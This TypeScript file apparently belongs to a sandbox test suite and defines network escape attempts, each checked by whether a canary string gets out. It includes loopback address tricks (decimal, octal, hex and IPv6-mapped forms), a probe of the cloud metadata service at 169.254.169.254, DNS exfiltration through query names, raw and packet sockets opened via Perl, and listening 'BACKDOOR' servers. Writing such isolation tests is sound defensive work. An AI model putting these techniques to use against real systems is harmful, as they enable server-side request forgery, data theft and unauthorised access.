import type { Hostile } from "../attack.ts";
import { type Attack, attack } from "../attack.ts";
import type { Scene } from "../scene.ts";

const arrived = (scene: Scene) => scene.listeners.heard(scene.canary);

interface Goal {
	readonly host: string;
	readonly port: number;
	readonly words: string;
}

const connects = async ({ connect, say, settings: { host, port, words } }: Hostile<Goal>) => say(await connect({ host, port }, words));

function goal(scene: Scene, host: string, port: number): Goal {
	return { host, port, words: `GET /${scene.canary} HTTP/1.1\r\nHost: x\r\n\r\n` };
}

const isolatedOnly = ({ isolated }: Scene) => (isolated ? null : "only root has a network of its own in which this address can be put");

function network<S>(
	name: string,
	title: string,
	prepare: (scene: Scene) => S | Promise<S>,
	program: (hostile: Hostile<S>) => unknown,
	more: Partial<Attack<S>> = {},
): Attack {
	return attack<S>({ name, family: "network", title, entry: "bare", prepare, program, escaped: arrived, ...more });
}

/** A connection to what listens on the machine itself, such as a database without a password. */
const LOOPBACK: readonly (readonly [name: string, listens: string, dials: string])[] = [
	["v4", "127.0.0.1", "127.0.0.1"],
	["v6", "::1", "::1"],
	["other-address", "127.0.0.1", "127.0.0.1"],
	["mapped", "127.0.0.1", "::ffff:127.0.0.1"],
	["any", "127.0.0.1", "0.0.0.0"],
	["decimal", "127.0.0.1", "2130706433"],
	["octal", "127.0.0.1", "0177.0.0.1"],
	["hexadecimal", "127.0.0.1", "0x7f.1"],
	["localhost", "127.0.0.1", "localhost"],
];

export const NETWORK: readonly Attack[] = [
	...LOOPBACK.filter(([name]) => name !== "other-address").map(([name, listens, dials]) =>
		network(
			`tcp-loopback-${name}`,
			`connect to a service of this machine, as ${dials}`,
			async (scene) => goal(scene, dials, await scene.listeners.tcp(listens)),
			connects,
		),
	),
	network("tcp-metadata", "ask the cloud's metadata service at 169.254.169.254", (scene) => goal(scene, "169.254.169.254", 80), connects, {
		impossible: isolatedOnly,
	}),
	network("tcp-private", "connect to a machine of the private network", (scene) => goal(scene, "10.0.0.1", 80), connects, {
		impossible: isolatedOnly,
	}),
	network("tcp-public", "connect to a machine on the internet", (scene) => goal(scene, "8.8.4.4", 80), connects, {
		impossible: isolatedOnly,
	}),
	...(["127.0.0.1", "::1"] as const).map((host) =>
		network(
			`udp-${host === "::1" ? "v6" : "v4"}`,
			`send a datagram to ${host}`,
			async (scene) => goal(scene, host, await scene.listeners.udp(host)),
			({ dgram, settings: { host, port, words } }) =>
				new Promise<void>((resolve) => {
					const socket = dgram.createSocket(host.includes(":") ? "udp6" : "udp4");
					socket.once("error", () => resolve());
					socket.send(words, port, host, () => {
						socket.close();
						setTimeout(resolve, 200);
					});
				}),
		),
	),
	network(
		"dns-system",
		"carry words out in a name that the system is asked for",
		(scene) => `${scene.canary.slice(7)}.leak.test`.toLowerCase(),
		({ dns, settings }) => new Promise<void>((resolve) => dns.lookup(settings, () => resolve())),
		{ impossible: isolatedOnly, escaped: (scene) => scene.listeners.heard(scene.canary.slice(7).toLowerCase()) },
	),
	network(
		"dns-direct",
		"carry words out in a question to a name server",
		(scene) => `${scene.canary.slice(7)}.leak.test`.toLowerCase(),
		({ dns, settings }) =>
			new Promise<void>((resolve) => {
				const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
				resolver.setServers(["127.0.0.53"]);
				resolver.resolve4(settings, () => resolve());
			}),
		{ impossible: isolatedOnly, escaped: (scene) => scene.listeners.heard(scene.canary.slice(7).toLowerCase()) },
	),
	network(
		"raw-icmp",
		"open a raw socket",
		() => null,
		({ perl }) => perl('use Socket; socket(my $s, AF_INET, SOCK_RAW, 1) or die "no: $!"; print "READY"; sleep 20'),
		{ impossible: ({ isRoot }) => (isRoot ? null : "only root opens one outside"), escaped: (scene) => scene.sockets("raw") > 0 },
	),
	network(
		"packet-socket",
		"listen to every packet of the machine",
		() => null,
		({ perl }) => perl('socket(my $s, 17, 3, 0x0300) or die "no: $!"; print "READY"; sleep 20'),
		{ impossible: ({ isRoot }) => (isRoot ? null : "only root opens one outside"), escaped: (scene) => scene.sockets("packet") > 0 },
	),
	network(
		"listen-tcp",
		"open a port through which others get in",
		() => null,
		({ net, say }) =>
			new Promise<void>((resolve) => {
				const server = net.createServer((socket) => socket.end("BACKDOOR")).once("error", () => resolve());
				server.listen(0, "127.0.0.1", () => {
					say(`listening ${(server.address() as { port: number }).port}`);
					resolve();
				});
			}),
		{
			escaped: async (scene) => {
				const port = Number(/listening (\d+)/.exec(scene.output)?.[1] ?? 0);
				return port > 0 && (await scene.dial({ host: "127.0.0.1", port })).includes("BACKDOOR");
			},
		},
	),
	network(
		"listen-unix",
		"leave a socket in a writable folder, for others to connect to",
		(scene) => scene.project("fresh/socket"),
		({ net, settings }) =>
			new Promise<void>((resolve) => {
				net
					.createServer((socket) => socket.end("BACKDOOR"))
					.once("error", () => resolve())
					.listen(settings, () => resolve());
			}),
		{ entry: "writer", escaped: async (scene, settings) => (await scene.dial({ path: settings })).includes("BACKDOOR") },
	),
	network(
		"listen-abstract",
		"open an abstract socket, for others to connect to",
		(scene) => `\0${scene.mark}`,
		({ net, settings }) =>
			new Promise<void>((resolve) => {
				net
					.createServer((socket) => socket.end("BACKDOOR"))
					.once("error", () => resolve())
					.listen(settings, () => resolve());
			}),
		{ escaped: async (scene, settings) => (await scene.dial({ path: settings })).includes("BACKDOOR") },
	),
	network(
		"fifo-to-host",
		"speak to a program outside through a pipe in what may be read",
		(scene) => {
			const fifo = scene.project("src/pipe");
			scene.readsFifo(fifo);
			return { fifo, words: scene.canary };
		},
		({ fs, settings: { fifo, words } }) => {
			const fd = fs.openSync(fifo, fs.constants.O_WRONLY | fs.constants.O_NONBLOCK);
			fs.writeSync(fd, words);
		},
		{ entry: "reader" },
	),
];
